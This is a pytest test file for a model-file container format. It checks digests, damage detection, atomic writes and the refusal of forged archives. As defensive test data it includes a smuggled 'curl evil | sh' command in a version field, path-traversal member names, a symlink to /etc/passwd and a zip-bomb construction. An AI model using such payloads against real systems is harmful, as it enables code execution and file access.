"""The container: what was written comes back, and anything else is refused by what is wrong with it."""

from __future__ import annotations

import errno
import hashlib
import io
import json
import os
import pickle
import stat
import struct
import zipfile

import numpy as np
import pytest

from textrnn import files
from textrnn.bundle import read_bundle, write_bundle
from textrnn.bundle.archive import pack
from textrnn.bundle.format import FORMAT, consistent, to_json
from textrnn.errors import ModelFileError, OutputError
from textrnn.resources import peak_mb

MEMBERS = {"a.json": b'{"x": 1}', "b.safetensors": bytes(range(256)) * 4, "empty.json": b""}
MARK = b"textrnn-sha256:"


@pytest.fixture
def path(tmp_path):
    return tmp_path / "m.textrnn"


def sealed(buffer):
    """Give a zip the comment of a model file, with the right digest."""
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.comment = MARK + b"0" * 64
    return resealed(buffer.getvalue())


def resealed(data):
    return data[:-64] + hashlib.sha256(data[:-64]).hexdigest().encode()


def listed(members):
    return {name: {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data)} for name, data in members.items()}


def forged(members, manifest=None, **changes):
    """A file as textrnn lays them out, with a valid digest and any members."""
    manifest = {"format": FORMAT, "needs": "0.1.0", "members": listed(members)} if manifest is None else manifest
    manifest = manifest | changes if changes else manifest
    return resealed(b"".join(pack({"manifest.json": to_json(manifest), **members}, MARK + b"0" * 64)))


def zipped(members, compression=zipfile.ZIP_STORED):
    """The same by another program; `members` are pairs."""
    manifest = {"format": FORMAT, "needs": "0.1.0", "members": listed(dict(members))}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in [("manifest.json", to_json(manifest)), *members]:
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)) if isinstance(name, str) else name, data)
    return sealed(buffer)


def refused(path, data=None):
    """The message, which must be one line that names the file."""
    if data is not None:
        path.write_bytes(data)
    with pytest.raises(ModelFileError) as error:
        read_bundle(path)
    message = str(error.value)
    assert message.startswith(f"{path}: ")
    assert "\n" not in message
    return message.removeprefix(f"{path}: ")


def test_what_a_message_quotes_of_a_file_is_one_short_line_that_can_be_printed():
    with pytest.raises(ModelFileError) as error, consistent("m.textrnn"):
        raise ValueError("a\r\nb \ud800" + "c" * 10_000)
    told = str(error.value)
    assert told.startswith("m.textrnn: its parts do not fit together (a b \\ud800ccc")
    assert len(told) < 400


# what was written comes back


def test_members_come_back_as_they_were(path):
    digest = write_bundle(path, MEMBERS, needs="0.1.0")
    assert read_bundle(path) == MEMBERS
    assert path.read_bytes()[-64:].decode() == digest


def test_the_digest_is_over_all_bytes_before_it(path):
    digest = write_bundle(path, MEMBERS, needs="0.1.0")
    assert hashlib.sha256(path.read_bytes()[:-64]).hexdigest() == digest


def test_any_zip_tool_opens_it(path):
    write_bundle(path, MEMBERS, needs="0.1.0")
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        assert archive.namelist() == ["manifest.json", *MEMBERS]
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert {entry.compress_type for entry in archive.infolist()} == {zipfile.ZIP_STORED}
        manifest = json.loads(archive.read("manifest.json"))
    assert manifest["format"] == FORMAT
    assert manifest["members"]["a.json"] == {"sha256": hashlib.sha256(b'{"x": 1}').hexdigest(), "size": 8}


def test_the_same_members_give_the_same_bytes(tmp_path):
    for name in ("one", "two"):
        write_bundle(tmp_path / name, MEMBERS, needs="0.1.0")
    assert (tmp_path / "one").read_bytes() == (tmp_path / "two").read_bytes()


def test_the_helper_of_these_tests_forges_files_that_are_read(path):
    path.write_bytes(forged(MEMBERS))
    assert read_bundle(path) == MEMBERS
    path.write_bytes(zipped(list(MEMBERS.items())))
    assert read_bundle(path) == MEMBERS


def test_json_does_not_depend_on_the_order_of_keys_and_holds_no_nan():
    assert to_json({"b": 1, "a": "가"}) == to_json({"a": "가", "b": 1}) == b'{\n "a": "\\uac00",\n "b": 1\n}'
    with pytest.raises(ValueError, match="JSON compliant"):
        to_json({"a": float("nan")})


# damage


def test_every_flipped_byte_is_noticed(path):
    write_bundle(path, MEMBERS, needs="0.1.0")
    data = path.read_bytes()
    rng = np.random.default_rng(0)
    for place in rng.integers(0, len(data), 300):
        changed = bytearray(data)
        changed[place] ^= int(rng.integers(1, 256))
        refused(path, bytes(changed))


def test_every_truncation_is_noticed(path):
    write_bundle(path, MEMBERS, needs="0.1.0")
    data = path.read_bytes()
    for end in [*range(0, 100), *range(100, len(data) - 100, 17), *range(len(data) - 100, len(data))]:
        refused(path, data[:end])


@pytest.mark.parametrize("more", [b"\0", b"x" * 100])
def test_bytes_added_at_the_end_are_noticed(path, more):
    write_bundle(path, MEMBERS, needs="0.1.0")
    refused(path, path.read_bytes() + more)


def test_damage_is_called_damage(path):
    write_bundle(path, MEMBERS, needs="0.1.0")
    data = bytearray(path.read_bytes())
    data[200] ^= 1
    assert refused(path, bytes(data)) == (
        "damaged or changed since it was written (its digest differs); copy or train it again"
    )


# what is not a model file


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"", ""),
        (b"text,label\ngood,1\n" * 50, ""),
        (pickle.dumps([1, 2]), " (pickle)"),
        (b"\x89HDF\r\n\x1a\n" + b"0" * 500, " (HDF5)"),
        (b"PK\x03\x04", " (another zip, such as a Keras archive)"),
    ],
)
def test_another_kind_of_file_is_not_a_model_file(path, data, kind):
    assert refused(path, data) == f"not a textrnn model file{kind}; name one that 'textrnn fit' wrote"


def test_a_large_file_of_another_kind_is_not_read(path, monkeypatch):
    with path.open("wb") as file:
        file.truncate(3 << 30)
    before = peak_mb()
    assert refused(path).startswith("not a textrnn model file")
    assert peak_mb() - before < 50


def test_a_zip_that_someone_else_made_is_not_a_model_file(path):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("manifest.json", "{}")
        archive.comment = b"made by hand"
    assert "not a textrnn model file" in refused(path)


def test_a_missing_file_a_folder_and_a_pipe_are_told_apart(path, tmp_path):
    assert refused(path).startswith("no such model file; train one with 'textrnn fit CORPUS'")
    assert refused(tmp_path).startswith("is a folder")
    if hasattr(os, "mkfifo"):
        os.mkfifo(path)
        assert refused(path).startswith("is not a file")


def test_a_file_that_may_not_be_read_says_so(path, monkeypatch):
    write_bundle(path, MEMBERS, needs="0.1.0")

    def deny(*_):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(type(path), "open", deny)
    assert refused(path) == "cannot be read (Permission denied); check its permissions"


# files made on purpose, with a valid digest


NOT_ITS = "not as textrnn writes model files (its members are not those of its manifest); do not use it"


def test_a_member_that_the_manifest_does_not_name_is_refused(path):
    manifest = {"format": FORMAT, "needs": "0", "members": listed(MEMBERS)}
    assert refused(path, forged({**MEMBERS, "more.json": b"{}"}, manifest)) == NOT_ITS


def test_a_member_that_is_missing_is_refused(path):
    manifest = {"format": FORMAT, "needs": "0", "members": listed(MEMBERS)}
    assert refused(path, forged(dict(list(MEMBERS.items())[1:]), manifest)) == NOT_ITS


def test_a_member_other_than_the_manifest_says_is_refused(path):
    for wrong in ({"sha256": "0" * 64, "size": 8}, {**listed(MEMBERS)["a.json"], "size": 9}):
        manifest = {"format": FORMAT, "needs": "0", "members": {"a.json": wrong}}
        assert refused(path, forged({"a.json": MEMBERS["a.json"]}, manifest)) == NOT_ITS


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("twice", ["a.json", "manifest.json"])
def test_a_member_that_is_there_twice_is_refused(path, twice):
    again = b"{}" if twice == "manifest.json" else MEMBERS[twice]
    assert f"has {twice} twice" in refused(path, zipped([*MEMBERS.items(), (twice, again)]))


@pytest.mark.parametrize("compression", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_compressed_member_is_refused(path, compression):
    entry = zipfile.ZipInfo("a.json", (1980, 1, 1, 0, 0, 0))
    entry.compress_type = compression
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("manifest.json", (1980, 1, 1, 0, 0, 0)), b"{}")
        archive.writestr(entry, b"0" * 10_000)
    assert "a member is compressed, encrypted or otherwise not plain" in refused(path, sealed(buffer))


@pytest.mark.parametrize(
    "name",
    [
        "../a.json",
        "/etc/a.json",
        "C:\\a.json",
        "sub/a.json",
        "a\\b.json",
        "A.JSON",
        "a.json/",
        ".json",
        "code.py",
        "model.pkl",
        "model.keras",
        "weights.h5",
        "model.onnx",
        "모델.json",
    ],
)
def test_a_name_that_is_a_path_or_of_another_kind_is_refused(path, name):
    told = "otherwise not plain" if not name.isascii() else "a model holds JSON and safetensors only"
    assert told in refused(path, zipped([(name, b"{}")]))
    with pytest.raises(ValueError, match="no name of a member"):
        write_bundle(path, {name: b"{}"}, needs="0")


def test_a_link_is_refused(path):
    entry = zipfile.ZipInfo("a.json", (1980, 1, 1, 0, 0, 0))
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(entry, b"/etc/passwd")
    assert "its directory is not that of its members" in refused(path, sealed(buffer))


def test_members_that_share_their_bytes_are_refused(path):
    # a zip bomb without compression: many entries of the directory point to one large member
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("manifest.json", (1980, 1, 1, 0, 0, 0)), b"{}")
        archive.writestr(zipfile.ZipInfo("big.json", (1980, 1, 1, 0, 0, 0)), b"0" * 50_000)
        for i in range(20):
            entry = zipfile.ZipInfo(f"big{i}.json", (1980, 1, 1, 0, 0, 0))
            entry.header_offset, entry.file_size = archive.getinfo("big.json").header_offset, 50_000
            entry.compress_size, entry.CRC = 50_000, archive.getinfo("big.json").CRC
            archive.filelist.append(entry)
            archive.NameToInfo[entry.filename] = entry
    assert "its directory is not that of its members" in refused(path, sealed(buffer))


def test_more_than_a_thousand_members_are_refused(path):
    members = {f"m{i}.json": b"" for i in range(1001)}
    with pytest.raises(ValueError, match="too many members"):
        write_bundle(path, members, needs="0")
    assert "has too many members" in refused(path, zipped(list(members.items())))


def test_a_member_larger_than_the_file_is_refused(path):
    data = bytearray(forged(MEMBERS))
    place = data.index(b"PK\x03\x04", 4)
    struct.pack_into("<II", data, place + 18, 1 << 31, 1 << 31)
    assert "a member is larger than the file" in refused(path, resealed(bytes(data)))


def test_a_newer_format_names_the_version_it_needs(path):
    data = forged(MEMBERS, format=FORMAT + 1, needs="3.2.1")
    assert refused(path, data) == "needs textrnn >= 3.2.1; pip install -U textrnn"
    # what stands there is somebody's text, and is shown only where it is a version
    assert refused(path, forged(MEMBERS, format=FORMAT + 1, needs="1; curl evil | sh")) == (
        "needs textrnn of a later version; pip install -U textrnn"
    )


@pytest.mark.parametrize(
    "manifest",
    [
        [],
        {},
        "text",
        None,
        {"format": "1", "needs": "0", "members": {}},
        {"format": FORMAT, "needs": "0"},
        {"format": FORMAT, "needs": "0", "members": ["a.json"]},
        {"format": FORMAT, "needs": "0", "members": {"a.json": "digest"}},
        {"format": FORMAT, "needs": "0", "members": {"a.json": {}}},
        {"format": FORMAT + 1},
    ],
)
def test_a_manifest_of_another_shape_is_refused(path, manifest):
    refused(path, resealed(b"".join(pack({"manifest.json": json.dumps(manifest).encode()}, MARK + b"0" * 64))))


def test_a_zip_without_a_manifest_is_refused(path):
    refused(path, resealed(b"".join(pack({"a.json": b"{}"}, MARK + b"0" * 64))))


def test_any_byte_changed_under_a_valid_digest_is_refused(path):
    write_bundle(path, MEMBERS, needs="0.1.0")
    data = path.read_bytes()
    rng = np.random.default_rng(1)
    inside = len(data) - 64 - len(MARK)
    for place in range(inside):
        changed = bytearray(data)
        changed[place] ^= int(rng.integers(1, 256))
        refused(path, resealed(bytes(changed)))


def test_a_manifest_nested_too_deep_is_refused(path):
    refused(path, resealed(b"".join(pack({"manifest.json": b"[" * 100_000}, MARK + b"0" * 64))))


def test_an_encrypted_member_is_refused(path):
    data = bytearray(forged({"a.json": b"{}"}))
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        entry = data.rindex(sign)
        flags = struct.unpack_from("<H", data, entry + place)[0]
        struct.pack_into("<H", data, entry + place, flags | 1)
    assert "a member is compressed, encrypted or otherwise not plain" in refused(path, resealed(bytes(data)))


# writing


def test_an_interrupted_write_leaves_the_old_file(path):
    write_bundle(path, MEMBERS, needs="0.1.0")
    before = path.read_bytes()
    with pytest.raises(KeyboardInterrupt), files.atomic_write(path) as file:
        file.write(b"half of a new")
        raise KeyboardInterrupt
    assert path.read_bytes() == before
    assert os.listdir(path.parent) == [path.name]


@pytest.mark.parametrize("call", ["fsync", "replace", "chmod"])
def test_a_disk_that_fails_leaves_the_old_file(path, monkeypatch, call):
    write_bundle(path, MEMBERS, needs="0.1.0")
    before = path.read_bytes()

    def fail(*_):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(files.os, call, fail)
    with pytest.raises(OutputError, match=r"cannot be written \(No space left on device\)"):
        write_bundle(path, {"other.json": b"1"}, needs="0.1.0")
    monkeypatch.undo()
    assert path.read_bytes() == before
    assert os.listdir(path.parent) == [path.name]


def test_an_interrupted_first_write_leaves_nothing(path):
    with pytest.raises(RuntimeError), files.atomic_write(path) as file:
        file.write(b"half")
        raise RuntimeError
    assert os.listdir(path.parent) == []


def test_a_reader_sees_the_old_file_until_the_new_one_is_whole(path):
    write_bundle(path, MEMBERS, needs="0.1.0")
    with files.atomic_write(path) as file:
        file.write(b"new")
        file.flush()
        assert read_bundle(path) == MEMBERS
    assert path.read_bytes() == b"new"


def test_an_existing_file_is_kept_unless_forced(path):
    write_bundle(path, MEMBERS, needs="0.1.0")
    with pytest.raises(OutputError, match="exists already; add --force"):
        write_bundle(path, {}, needs="0.1.0", force=False)
    assert read_bundle(path) == MEMBERS
    write_bundle(path, {"other.json": b"1"}, needs="0.1.0")
    assert read_bundle(path) == {"other.json": b"1"}


@pytest.mark.skipif(os.name == "nt", reason="Windows has no modes")
@pytest.mark.parametrize(("mask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_the_file_has_the_mode_of_any_other_file(path, mask, mode):
    before = os.umask(mask)
    try:
        write_bundle(path, MEMBERS, needs="0.1.0")
    finally:
        os.umask(before)
    assert stat.S_IMODE(path.stat().st_mode) == mode


@pytest.mark.skipif(os.name == "nt", reason="Windows has no modes")
def test_a_replaced_file_keeps_its_mode(path):
    write_bundle(path, MEMBERS, needs="0.1.0")
    path.chmod(0o640)
    write_bundle(path, MEMBERS, needs="0.1.0")
    assert stat.S_IMODE(path.stat().st_mode) == 0o640
